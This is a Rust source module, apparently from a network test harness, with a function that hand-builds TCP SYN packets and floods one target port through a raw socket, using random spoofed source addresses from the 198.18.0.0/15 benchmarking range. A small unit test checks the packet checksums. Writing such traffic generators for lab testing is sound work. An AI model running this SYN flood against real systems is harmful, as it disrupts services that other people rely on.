//! Packets no kernel would send: made by hand, sent through a raw socket.

use super::ms;
use crate::checksum;
use crate::packet::{ETHERNET, flag, put};
use crate::rng::Rng;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::thread;
use std::time::Duration;

/// Sends `count` SYNs from made-up addresses of 198.18.0.0/15 (RFC 2544) to one port, a few each millisecond.
///
/// # Errors
/// What `socket(2)` or `sendto(2)` report.
pub fn syn_flood(to: Ipv4Addr, port: u16, count: usize, seed: u64) -> io::Result<()> {
    // Protocol 255 takes packets with their IP header, see raw(7).
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))?;
    let target = SockAddr::from(SocketAddr::from((to, 0)));
    let mut rng = Rng::new(seed);
    for number in 0..count {
        let random = rng.next_u64();
        let source = Ipv4Addr::new(
            198,
            18 + (random & 1) as u8,
            (random >> 8) as u8,
            (random >> 16) as u8,
        );
        let packet = syn(
            source,
            to,
            1_024 + (random >> 32) as u16 % 60_000,
            port,
            (random >> 24) as u32,
        );
        socket.send_to(&packet, &target)?;
        if number % 4 == 3 {
            thread::sleep(Duration::from_millis(1));
        }
    }
    thread::sleep(ms(50));
    Ok(())
}

/// An IPv4 packet with a bare SYN.
fn syn(source: Ipv4Addr, to: Ipv4Addr, from_port: u16, port: u16, seq: u32) -> Vec<u8> {
    let mut frame = vec![0; ETHERNET + 44];
    put(&mut frame, 12, &[8, 0, 0x45, 0, 0, 44]);
    put(&mut frame, ETHERNET + 4, &(seq as u16).to_be_bytes());
    put(&mut frame, ETHERNET + 8, &[64, 6]);
    put(&mut frame, ETHERNET + 12, &source.octets());
    put(&mut frame, ETHERNET + 16, &to.octets());
    put(&mut frame, ETHERNET + 20, &from_port.to_be_bytes());
    put(&mut frame, ETHERNET + 22, &port.to_be_bytes());
    put(&mut frame, ETHERNET + 24, &seq.to_be_bytes());
    put(&mut frame, ETHERNET + 32, &[6 << 4, flag::SYN, 0xff, 0xff]);
    put(&mut frame, ETHERNET + 40, &[2, 4, 5, 0xb4]);
    checksum::fix(&mut frame);
    frame.split_off(ETHERNET)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_is_a_valid_packet() {
        let packet = syn(
            Ipv4Addr::new(198, 18, 1, 2),
            Ipv4Addr::new(10, 77, 0, 1),
            5_000,
            80,
            7,
        );
        let mut frame = vec![0; 12];
        frame.extend_from_slice(&[8, 0]);
        frame.extend_from_slice(&packet);
        assert!(checksum::is_right(&frame));
    }
}
